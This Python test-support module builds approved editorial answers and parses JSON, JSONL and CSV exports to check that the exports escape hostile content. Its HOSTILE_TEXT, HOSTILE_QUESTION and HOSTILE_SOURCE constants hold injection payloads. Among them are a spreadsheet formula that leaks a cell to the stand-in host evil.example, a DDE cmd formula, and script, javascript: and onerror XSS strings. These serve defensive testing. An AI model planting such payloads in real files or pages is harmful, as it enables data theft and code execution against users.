"""What the export tests share: approved content built through the workflow, the
hostile text it must survive, and each format read back as its consumers read it."""

from __future__ import annotations

import csv
import datetime
import io
import json
from collections.abc import Iterable, Iterator

import pytest

from editorial import workflow
from editorial.exporters import Export
from editorial.models import Answer, ApprovedVersion, Status
from tests.conftest import settle_claims

MASSACHUSETTS = "000_45b9d17f8c940ceb.txt"
MISSISSIPPI = "004_4ec6ae860d37c5b3.txt"
HEDGED = {MASSACHUSETTS: {1, 10, 15}, MISSISSIPPI: {19}}

RMV = {
    "url": "https://www.mass.gov/orgs/massachusetts-registry-of-motor-vehicles",
    "title": "Registry of Motor Vehicles",
    "publisher": "Commonwealth of Massachusetts",
    "accessed_on": datetime.date(2026, 11, 20),
    "excerpt": "The RMV issues licences.",
}
MS_DPS = {
    "url": "https://www.dps.ms.gov/driver-service-bureau",
    "title": "Driver Service Bureau",
    "publisher": "Mississippi Department of Public Safety",
    "accessed_on": datetime.date(2026, 11, 19),
    "excerpt": "",
}
HOSTILE_TEXT = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")\n'
    "@SUM(1+1)*cmd|' /C calc'!A0\n"
    "<script>alert('answer')</script>\n"
    "# Not a heading\n"
    "[a link](javascript:alert(1)) and ![an image](http://evil.example/x.png)\n"
    "- not a list\n"
    "1. not an ordered list\n"
    "> not a quote\n"
    "    not code\n"
    "| not | a table |\n"
    "|-----|---------|\n"
    "**not bold** ~~not struck~~ `not code` &lt;not an entity&gt; <b>not html</b>\n"
    "===\n"
    "</script><!-- end -->"
)
HOSTILE_QUESTION = "+1 <img src=x onerror=alert(1)> [q](javascript:alert(2))? #"
HOSTILE_SOURCE = {
    "url": "https://evil.example/a_(b)?x=<script>",
    "title": "@SUM(2) <script>alert('title')</script> [t](javascript:alert(3))",
    "publisher": "-2+3 </script>",
    "accessed_on": datetime.date(2026, 1, 2),
    "excerpt": "",
}


# --- building approved content through the workflow -------------------------------------


def answer_at(document: str, position: int) -> Answer:
    return Answer.objects.get(document__name=document, position=position)


def approve(answer: Answer, editor, reviewer, *, sources=None, **content) -> Answer:
    """Source (and optionally rewrite) an answer, link each of its claims to its first source,
    submit it and have it approved."""
    workflow.edit(answer, user=editor, sources=sources or [RMV], **content)
    cite_claims(answer, editor)
    workflow.submit(answer, editor, reviewer=reviewer)
    return workflow.approve(answer, reviewer)


def cite_claims(answer: Answer, editor) -> None:
    """Link each claim of the answer's text to its first source, each with its own excerpt,
    in one edit, as an editor would.

    Not tests/conftest.py's settle_claims, which marks claims common knowledge: exported
    claims must carry a source's URL and an excerpt for the formats to be checked."""
    unsettled = workflow.unsettled_claims(answer)
    if unsettled:
        workflow.settle_claims(
            answer,
            user=editor,
            claims=[claim.key for claim in unsettled],
            kind="source",
            source_id=answer.sources.order_by("id").first().pk,
            overrides={claim.key: {"excerpt": f"Quoted for {claim.text}."} for claim in unsettled},
        )


def approvable(limit: int) -> list[Answer]:
    """Answers that only lack a source (and evidence for their claims), in reading order."""
    answers = Answer.objects.select_related("document").order_by("document__name", "position")
    return [a for a in answers if a.position not in HEDGED[a.document.name]][:limit]


def approved_in_steps(sizes: Iterable[int], editor, reviewer) -> Iterator[int]:
    """Approve answers up to each size in turn, handing back the size once there: the
    scale tests measure at each size without approving the earlier answers again."""
    done = 0
    for size in sizes:
        for answer in approvable(size)[done:]:
            approve(answer, editor, reviewer)
        done = size
        yield size


@pytest.fixture
def approved(seeds, editor, reviewer) -> dict[str, Answer]:
    """Approved answers in both documents, one of them a hedged answer rewritten first."""
    return {
        "ma2": approve(answer_at(MASSACHUSETTS, 2), editor, reviewer),
        "ma3": approve(answer_at(MASSACHUSETTS, 3), editor, reviewer, sources=[RMV, MS_DPS]),
        "ma1": approve(
            answer_at(MASSACHUSETTS, 1),
            editor,
            reviewer,
            text="Since 2004 the RMV shares records with ICE only when a court order requires it.",
        ),
        "ms1": approve(answer_at(MISSISSIPPI, 1), editor, reviewer, sources=[MS_DPS]),
        "ms20": approve(
            answer_at(MISSISSIPPI, 20),
            editor,
            reviewer,
            sources=[MS_DPS],
            question="Does Mississippi share licence photos with ICE?",
        ),
    }


@pytest.fixture
def hostile(seeds, editor, reviewer) -> Answer:
    return approve(
        answer_at(MISSISSIPPI, 2),
        editor,
        reviewer,
        question=HOSTILE_QUESTION,
        text=HOSTILE_TEXT,
        sources=[HOSTILE_SOURCE],
    )


def expected_records() -> list[dict]:
    """What every export must carry, read straight from the approved versions."""
    versions = (
        ApprovedVersion.objects.current()
        .exclude(answer__status=Status.ARCHIVED)
        .select_related("answer__document", "approved_by")
        .order_by("answer__document__name", "answer__position")
    )
    return [
        {
            "id": version.answer_id,
            "document": version.answer.document.name,
            "subject": version.answer.document.subject,
            "position": version.answer.position,
            "question": version.question,
            "answer": version.text,
            "sources": [
                {key: source[key] for key in ("url", "title", "publisher", "accessed")}
                for source in version.sources
            ],
            "approved_by": version.approved_by.username,
            "approved_at": version.approved_at.isoformat(),
            "version": version.version,
            "review_by": version.review_by.isoformat(),
            "digitalSourceType": version.provenance["digital_source_type"],
            "editors": version.provenance["editors"],
            "correction": version.provenance["correction"],
            "claims": [
                {key: claim[key] for key in ("text", "source_url", "excerpt", "reason")}
                for claim in version.claims
            ],
        }
        for version in versions
    ]


def export(format_name: str, **options) -> bytes:
    out = io.BytesIO()
    Export(format_name, channel="command", **options).write_to(out)
    return out.getvalue()


# --- parsers for the formats: what a consumer of the file would do ----------------------


def parse_json(data: bytes) -> list[dict]:
    return json.loads(data)


def parse_jsonl(data: bytes) -> list[dict]:
    """JSON Lines as their readers split them: at "\n" only (str.splitlines also splits
    at U+2028 and U+2029, which JSON text holds unescaped)."""
    return [json.loads(line) for line in data.decode("utf-8").split("\n") if line]


def parse_csv(data: bytes) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    for row in rows:
        for key in ("id", "position", "version"):
            row[key] = int(row[key])
        row["sources"] = json.loads(row["sources"])
        row["editors"] = json.loads(row["editors"])
        row["claims"] = json.loads(row["claims"])
    return rows


# --- the corpus the contract and the consumers are checked on ---------------------------

# A link with a query (&), quotes and a non-ASCII path, as typed; it is stored percent-encoded.
AMPERSAND_SOURCE = {
    "url": "https://example.org/söök?a=1&b='2'&c=\"3\"",
    "title": "Search & find “quoted”",
    "publisher": "Example & Co",
    "accessed_on": datetime.date(2026, 11, 3),
    "excerpt": "",
}
AMPERSAND_URL = "https://example.org/s%C3%B6%C3%B6k?a=1&b=%272%27&c=%223%22"
UNICODE_QUESTION = "Ünïcödé ✓ 🚗, עברית, 漢字: \u200bzero width, \u2028a line separator?"
UNICODE_TEXT = (
    "Café, naïve, 🚗 and 漢字.\nA second line\u2029and a paragraph separator.\n\n  — done"
)


@pytest.fixture
def corpus(seeds, editor, reviewer) -> list[Answer]:
    """Every answer of the seed files that only lacks sources approved (claims linked to
    their first source: the RMV's or the link with a query, in turn), the hostile answer,
    one of unicode text, and one whose claims are common knowledge (no source, a reason)."""

    hostile = approve(
        answer_at(MISSISSIPPI, 2),
        editor,
        reviewer,
        question=HOSTILE_QUESTION,
        text=HOSTILE_TEXT,
        sources=[HOSTILE_SOURCE, AMPERSAND_SOURCE],
    )
    unicode = approve(
        answer_at(MISSISSIPPI, 3),
        editor,
        reviewer,
        question=UNICODE_QUESTION,
        text=UNICODE_TEXT,
        sources=[AMPERSAND_SOURCE, MS_DPS],
    )
    common = answer_at(MISSISSIPPI, 4)
    workflow.edit(common, user=editor, sources=[MS_DPS])
    settle_claims(common, editor, reason="Known to every reader.")
    workflow.submit(common, editor, reviewer=reviewer)
    workflow.approve(common, reviewer)
    done = {hostile.pk, unicode.pk, common.pk}
    approved = [hostile, unicode, common]
    for index, answer in enumerate(a for a in approvable(1000) if a.pk not in done):
        # Claims are linked to the first source: every other answer cites the query link.
        sources = [RMV, AMPERSAND_SOURCE][:: -1 if index % 2 else 1]
        approved.append(approve(answer, editor, reviewer, sources=sources))
    return approved
